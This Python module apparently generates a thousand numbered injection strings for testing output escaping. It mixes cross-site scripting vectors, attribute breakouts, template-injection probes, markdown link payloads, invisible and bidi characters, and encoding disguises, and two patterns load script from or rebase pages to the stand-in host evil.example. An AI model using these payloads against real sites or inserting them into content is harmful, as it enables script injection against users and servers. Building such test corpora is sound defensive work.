"""Texts that become markup, script or disorder where somebody forgets to escape them: a thousand, each with its own number."""

from collections.abc import Iterator

_CALL = "alert({0})"
_HTML = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=x onerror={call}//",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<a href=javascript:{call} id=x>x</a>",
    "<style>@import 'javascript:{call}';</style>",
    "<link rel=stylesheet href=javascript:{call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='//evil.example/'>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<x onclick={call}>x</x>",
    "<script src=//evil.example/{number}></script>",
)
_ATTRIBUTE = (
    '"{inner}',
    "'{inner}",
    '">{inner}',
    "'>{inner}",
    '\\">{inner}',
    "&quot;>{inner}",
    "`>{inner}",
    "</title>{inner}",
    "</textarea>{inner}",
)
_TEMPLATE = (
    "{{{{{call}}}}}",
    "{{%% print({call}) %%}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{{{ ''.__class__.__mro__ }}}}",
)
_MARKDOWN = (
    "[x](javascript:{call})",
    "[x](data:text/html,<script>{call}</script>)",
    '![x](x" onerror="{call})',
    '[x](https://e.example/"onmouseover="{call})',
    '<https://e.example/" onmouseover={call}>',
    "`</code><script>{call}</script>`",
    "# <script>{call}</script>",
    "**<img src=x onerror={call}>**",
)
_INVISIBLE = (
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2028",
    "\u00ad",
    "\x1b[31m",
    "\x07",
    "\x7f",
    "\u061c",
    "\U000e0041",
)
_DISGUISES = (
    lambda text: text,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("s", "\u017f"),
    str.upper,
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "/"),
)


def payloads(count: int = 1000) -> list[str]:
    """Return so many different payloads; no NUL and no lone surrogate is in them."""
    found: dict[str, None] = {}
    for payload in _all():
        found.setdefault(payload)
        if len(found) == count:
            return list(found)
    raise AssertionError(f"only {len(found)} payloads")


def _all() -> Iterator[str]:
    number = 0
    for disguise in _DISGUISES:
        for pattern in (*_HTML, *_MARKDOWN, *_TEMPLATE):
            number += 1
            inner = pattern.format(call=_CALL.format(number), number=number)
            yield disguise(inner)
            wrapper = _ATTRIBUTE[number % len(_ATTRIBUTE)]
            yield disguise(wrapper.format(inner=inner))
            sign = _INVISIBLE[number % len(_INVISIBLE)]
            yield sign + disguise(inner)
            yield disguise(f"{inner[: len(inner) // 2]}{sign}{inner[len(inner) // 2 :]}")
